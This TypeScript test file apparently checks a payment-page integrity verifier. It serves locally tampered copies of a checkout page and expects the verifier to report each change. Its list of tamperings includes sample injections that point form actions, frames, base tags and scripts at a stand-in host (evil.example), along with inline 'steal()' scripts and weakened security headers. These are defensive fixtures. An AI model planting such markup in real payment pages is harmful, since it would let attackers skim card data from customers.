import { execFile } from 'node:child_process';
import { once } from 'node:events';
import { createServer } from 'node:http';

import { PROJECT } from '../support/documents.ts';
import { hashOf } from '../../vite/page-parts.ts';
import { startVerifier } from '../../scripts/operator/page-scripts/verify.ts';
import { CARDS, expect, test } from './fixtures.ts';

function verify(...urls: string[]): Promise<{ code: number; output: string }> {
  return new Promise((resolve) => {
    const program = ['scripts/operator/scripts-verify.ts', ...urls];
    execFile(process.execPath, program, { cwd: PROJECT }, (error, stdout, stderr) => {
      resolve({ code: error === null ? 0 : Number(error.code), output: stdout + stderr });
    });
  });
}

interface Tampering {
  name: string;
  finding: string;
  html?: (html: string) => string;
  headers?: (headers: Headers) => void;
}

function inBody(markup: string) {
  return (html: string) => html.replace('</body>', `${markup}</body>`);
}

function inHead(markup: string) {
  return (html: string) => html.replace('</head>', `${markup}</head>`);
}

function inForm(markup: string) {
  return (html: string) => html.replace('</form>', `${markup}</form>`);
}

const TAMPERINGS: readonly Tampering[] = [
  {
    name: 'a foreign form action',
    finding: 'It has a form for another address',
    html: (html) => html.replace(/action="\/pay/, 'action="https://evil.example/pay'),
  },
  {
    name: 'a form action of another host',
    finding: 'It has a form for another address',
    html: (html) => html.replace(/action="\/pay/, 'action="//evil.example/pay'),
  },
  {
    name: 'a frame',
    finding: 'It has a frame',
    html: inBody('<iframe src="//evil.example">'),
  },
  {
    name: 'a stylesheet',
    finding: 'It has a style sheet of another address',
    html: inHead('<link rel=stylesheet href=/x.css>'),
  },
  {
    name: 'a base',
    finding: 'It has a base address',
    html: inHead('<base href="//evil.example">'),
  },
  {
    name: 'a style',
    finding: 'A sheet that is not in the inventory: sha256-',
    html: inHead('<style>input{background:url(/x)}</style>'),
  },
  {
    name: 'a changed style',
    finding: 'A sheet that is not in the inventory: sha256-',
    html: (html) => html.replace('<style>', '<style> '),
  },
  {
    name: 'an event handler',
    finding: 'It has an event handler',
    html: (html) => html.replace('<button', '<button onclick=steal()'),
  },
  {
    name: 'a style attribute',
    finding: 'It has a style attribute',
    html: (html) => html.replace('<main', '<main style="display:none"'),
  },
  {
    name: 'a button elsewhere',
    finding: 'It has a form for another address',
    html: inForm('<button formaction="//evil.example">x</button>'),
  },
  {
    name: 'a link that runs',
    finding: 'It has a script address',
    html: inForm('<a href="javascript:steal()">x</a>'),
  },
  {
    name: 'a script of another origin',
    finding: 'A script of another address: https://evil.example',
    html: inBody('<script src="https://evil.example/s.js"></script>'),
  },
  {
    name: 'a script in the page',
    finding: 'A script that is not in the inventory: sha256-',
    html: inBody('<script>steal()</script>'),
  },
  {
    name: 'one byte of a script',
    finding: 'A script that is not in the inventory: sha256-',
    html: (html) => html.replace('noValidate=!0', 'noValidate=!1'),
  },
  {
    name: 'a script in the page and in the policy',
    finding: `The policy allows what is not in the inventory: ${hashOf('steal()')}`,
    html: inBody('<script>steal()</script>'),
    headers: (headers) =>
      headers.set(
        'content-security-policy',
        (headers.get('content-security-policy') ?? '').replace(
          'script-src',
          `script-src '${hashOf('steal()')}'`,
        ),
      ),
  },
  {
    name: 'a wider policy',
    finding: 'A header is not what the build sends: content-security-policy',
    headers: (headers) =>
      headers.set(
        'content-security-policy',
        `${headers.get('content-security-policy') ?? ''} https:`,
      ),
  },
  {
    name: 'no policy',
    finding: 'A header is missing: content-security-policy',
    headers: (headers) => headers.delete('content-security-policy'),
  },
  {
    name: 'a page that may be framed',
    finding: 'A header is missing: x-frame-options',
    headers: (headers) => headers.delete('x-frame-options'),
  },
  {
    name: 'a header more',
    finding: 'A header that the build does not send: access-control-allow-origin',
    headers: (headers) => headers.set('access-control-allow-origin', '*'),
  },
];

/** Serves a page with one of the listed manipulations: `?tampering=0` applies the first. */
async function startTampering(url: string) {
  const server = createServer((request, response) => {
    void tamper(url, request.url ?? '').then(({ status, headers, html }) => {
      response.writeHead(status, Object.fromEntries(headers)).end(html);
    });
  }).listen(0, '127.0.0.1');
  await once(server, 'listening');
  const address = server.address();
  if (address === null || typeof address === 'string') throw new Error('No port was given');
  return { server, url: `http://127.0.0.1:${address.port}` };
}

async function tamper(url: string, path: string) {
  const answer = await fetch(url + path, {
    headers: { 'accept-encoding': 'identity', 'accept-language': 'en' },
  });
  const tampering = TAMPERINGS[Number(new URL(path, url).searchParams.get('tampering') ?? -1)];
  const headers = new Headers(answer.headers);
  tampering?.headers?.(headers);
  headers.delete('content-length');
  const html = await answer.text();
  return { status: answer.status, headers, html: tampering?.html?.(html) ?? html };
}

test('live pages match the release, in every state and language', async ({
  app,
  request,
  createOrder,
}) => {
  const order = await createOrder({ description: 'Two books & "a lamp"' });
  const converted = await createOrder({
    method: 'card_kzt',
    currency: 'KZT',
    amount: 5000,
    customer: {},
  });
  const declined = await createOrder();
  const paid = await createOrder();
  const form = { expiry: '12 / 39', security_code: '123', cardholder_name: 'Anna Weber' };
  await request.post(declined.pay_url, { form: { ...form, card_number: CARDS.softDecline } });
  await request.post(paid.pay_url, {
    form: { ...form, card_number: CARDS.approved },
    maxRedirects: 0,
  });
  const { code, output } = await verify(
    order.pay_url,
    `${order.pay_url}?lang=ar`,
    converted.pay_url,
    declined.pay_url,
    paid.pay_url,
    `${app.url}/pay/00000000-0000-4000-8000-000000000000`,
    `${app.url}/pay/nothing`,
  );
  expect(output).not.toContain('NOT AS IT SHOULD BE');
  expect(output).toContain('leads to');
  expect(code).toBe(0);
});

test('every manipulation is found', async ({ app, createOrder }) => {
  const order = await createOrder();
  const { server, url } = await startTampering(app.url);
  const verifier = await startVerifier();
  const page = `${url}/pay/${order.id}`;
  expect((await verifier.verify(page)).findings).toEqual([]);
  for (const [at, { name, finding }] of TAMPERINGS.entries()) {
    const { findings } = await verifier.verify(`${page}?tampering=${at}`);
    expect.soft(findings.join('\n'), name).toContain(finding);
  }
  verifier.close();
  server.closeAllConnections();
  server.close();
});
